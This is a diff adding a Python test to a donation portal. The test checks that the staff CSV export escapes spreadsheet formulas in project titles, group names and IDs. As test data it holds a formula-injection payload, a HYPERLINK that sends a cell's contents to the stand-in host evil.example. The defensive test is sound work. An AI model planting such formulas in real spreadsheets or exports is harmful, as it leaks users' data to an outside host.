@@ -243,3 +243,40 @@ def test_the_donations_csv_streams_every_donation_in_order(portal):  # noqa: ANN
     assert [int(r["seq"]) for r in out] == list(range(n, 0, -1))  # by time: the newest seq was the earliest
     assert sum(int(r["amount_yen"]) for r in out) == sum(r["amount_yen"] for r in rows[:-1])
     assert "".join(queries.donations_csv_parts(engine)) == text == queries.donations_csv(engine)
+
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A2,"詳細")'
+
+
+def test_the_donations_csv_never_turns_typed_text_into_a_formula(portal):  # noqa: ANN001
+    """A title or group name typed as a formula (or a project id a kiosk sent) opens in Excel as text: a ``'``
+    before a first ``=``, ``+``, ``-``, ``@``, tab or CR (server_sync/csvsafe.py); numbers and dates stay as
+    they are."""
+    from server_sync import queries, totals
+    from server_sync.db import entries
+
+    engine = portal.app.state.engine
+    catalog.import_catalog(engine, {"groups": [{"id": "evil-club", "name": "@SUM(A1:A9)"}], "projects": [
+        {"id": "kodomo", "group_id": "evil-club", "title": EVIL, "area": "children", "goal_yen": 5000},
+        {"id": "tabbed", "group_id": "evil-club", "title": "+1+1", "area": "green", "goal_yen": 1000},
+        {"id": "plain", "group_id": "evil-club", "title": "こども食堂 - 2026", "area": "town", "goal_yen": 1000}]})
+    base = {"body": b"{}", "entry_hash": bytes(32), "signature": bytes(64), "type": "donation", "boot": 1,
+            "mono_ms": 5, "clock_synced": True, "time_fixed": True, "voided": False, "received_ms": 1_796_000_000_000,
+            "amount_yen": 100, "points": 1, "quarantine": None, "kiosk_id": "csv-0"}
+    with engine.begin() as conn:
+        conn.execute(entries.insert(), [{**base, "seq": s, "project": pid, "wall_ms": 1_790_000_000_000 + s,
+                                         "time_ms": 1_790_000_000_000 + s}
+                                        for s, pid in enumerate(["kodomo", "tabbed", "plain", "-1+2", "\t=x"], 1)])
+    totals.recount_all(engine)
+    add_user(engine, "clerk", "correct horse battery")
+    s = requests.Session()
+    s.post(portal.url + "/staff/login", data={"username": "clerk", "password": "correct horse battery"}, timeout=10)
+    text = s.get(portal.url + "/staff/donations.csv", timeout=10).content.decode("utf-8-sig")
+    out = list(csv.DictReader(io.StringIO(text)))
+    assert [(r["project_id"], r["project_title"], r["group"]) for r in out] == [
+        ("kodomo", "'" + EVIL, "'@SUM(A1:A9)"), ("tabbed", "'+1+1", "'@SUM(A1:A9)"),
+        ("plain", "こども食堂 - 2026", "'@SUM(A1:A9)"), ("'-1+2", "'-1+2", ""), ("'\t=x", "'\t=x", "")]
+    assert [(r["seq"], r["amount_yen"], r["points"], r["voided"]) for r in out] == [
+        (str(s), "100", "1", "0") for s in range(1, 6)]
+    assert all(r["time"].startswith("2026-") and r["kiosk_id"] == "csv-0" for r in out)
+    assert "".join(queries.donations_csv_parts(engine)) == "\ufeff" + text
